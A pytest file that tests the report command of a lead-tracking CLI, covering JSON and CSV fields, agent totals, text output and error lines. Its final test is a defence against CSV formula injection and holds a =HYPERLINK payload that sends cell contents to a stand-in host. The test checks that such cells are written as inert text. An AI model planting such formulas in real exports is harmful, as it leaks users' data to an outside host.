"""`leaddesk report`: JSON and CSV per CLI.md, periods, `--agent all`, errors."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from leaddesk.cli import main
from leaddesk.store import open_store
from tests.unit.metrics_fixture import ATTEMPTS, LEADS, store_facts

CONTRACT = {
    "agent",
    "leads",
    "attempts",
    "never_contacted",
    "never_contacted_pct",
    "second_attempt_rate",
    "median_attempts",
    "speed_to_lead_median_s",
    "speed_to_lead_p90_s",
    "voicemail_left_rate",
    "contact_rate",
    "outcomes",
    "channels",
}
WEEK = ["--since", "2026-11-01", "--until", "2026-11-07", "--now", "2026-12-01T00:00:00Z"]


@pytest.fixture
def db(db_path: Path) -> Path:
    store = open_store(db_path)
    store_facts(store, LEADS, ATTEMPTS)
    store.close()
    return db_path


def run_json(capsys: pytest.CaptureFixture[str], *argv: str) -> dict:
    assert main(["report", *argv, "--json"]) == 0
    return json.loads(capsys.readouterr().out)


def test_agent_report_json_has_the_contract_fields(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = run_json(capsys, "--db", str(db), "--agent", "agent.one", *WEEK)
    assert set(doc) >= CONTRACT
    assert doc["agent"] == "agent.one"
    assert (doc["since"], doc["until"]) == ("2026-11-01T00:00:00Z", "2026-11-08T00:00:00Z")
    assert (doc["leads"], doc["attempts"], doc["never_contacted"]) == (8, 11, 1)
    assert doc["never_contacted_pct"] == 12.5
    assert doc["second_attempt_rate"] == 0.5
    assert doc["median_attempts"] == 1
    assert (doc["speed_to_lead_median_s"], doc["speed_to_lead_p90_s"]) == (120, 7200)
    assert doc["voicemail_left_rate"] == 0.5
    assert doc["contact_rate"] == 0.3333
    assert doc["outcomes"]["connected"] == 3
    assert doc["channels"] == {"email": 1, "phone": 9, "sms": 1}


def test_agent_all_lists_every_agent_and_the_team(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = run_json(capsys, "--db", str(db), "--agent", "all", *WEEK)
    assert doc["agent"] == "all"
    assert [a["agent"] for a in doc["agents"]] == ["agent.one", "agent.two"]
    for agent in doc["agents"]:
        assert set(agent) >= CONTRACT
    assert doc["team"]["agent"] == "all"
    assert set(doc["team"]) >= CONTRACT
    assert doc["team"]["attempts"] == 12
    assert doc["team"]["voicemail_left_rate"] == 0.6667


def test_csv_has_one_row_per_agent_and_the_team(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "report.csv"
    assert main(["report", "--db", str(db), "--agent", "all", "--csv", str(out), *WEEK]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["agent"] for r in rows] == ["agent.one", "agent.two", "all"]
    one = rows[0]
    assert one["leads"] == "8"
    assert one["contact_rate"] == "0.3333"
    assert one["outcome:connected"] == "3"
    assert one["channel:phone"] == "9"
    assert one["outcome:bad_number"] == "0"
    assert rows[1]["speed_to_lead_median_s"] == ""  # agent.two owns no lead: no figure
    assert not list(tmp_path.glob("*.part"))


def test_text_output_reads_like_a_report(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "--db", str(db), "--agent", "agent.one", *WEEK]) == 0
    out = capsys.readouterr().out
    assert "agent.one: 8 leads, 11 attempts" in out
    assert "never contacted      1 (12.5 %)" in out
    assert "median 2 min, 90th percentile 2.0 h" in out
    assert "contact rate         33.3 %" in out


def test_default_agent_on_an_empty_database(
    db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = run_json(capsys, "--db", str(db_path), "--now", "2026-12-01T00:00:00Z")
    assert doc["leads"] == 0 and doc["attempts"] == 0
    assert doc["never_contacted_pct"] is None
    assert doc["contact_rate"] is None


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--agent", "nobody"], "no agent named 'nobody'"),
        (["--since", "2026-13-01"], "--since: '2026-13-01' is not an ISO 8601 time"),
        (["--since", "2026-11-20", "--until", "2026-11-01"], "--since must come before --until"),
        (["--server", "https://team.example", "--pdf", "r.pdf"], "--pdf is made from a local"),
        (["--csv", "/nonexistent/folder/r.csv"], "--csv: cannot write"),
    ],
)
def test_bad_input_is_one_clear_line(
    db: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert main(["report", "--db", str(db), *argv]) == 1
    err = capsys.readouterr().err
    assert message in err
    assert err.count("\n") == 1


def test_csv_writes_formula_like_names_as_text(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An agent named like a spreadsheet formula is not run when the CSV is opened."""
    from sqlalchemy import update

    from leaddesk.store.models import Agent

    store = open_store(db)
    with store.transaction() as session:
        session.execute(
            update(Agent)
            .where(Agent.name == "agent.two")
            .values(name='=HYPERLINK("http://x.example/?"&A1,"ok")')
        )
    store.close()
    out = tmp_path / "report.csv"
    assert main(["report", "--db", str(db), "--agent", "all", "--csv", str(out), *WEEK]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {row["agent"]: row for row in rows}
    assert set(names) == {'\'=HYPERLINK("http://x.example/?"&A1,"ok")', "agent.one", "all"}
    assert names["agent.one"]["leads"] == "8"
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
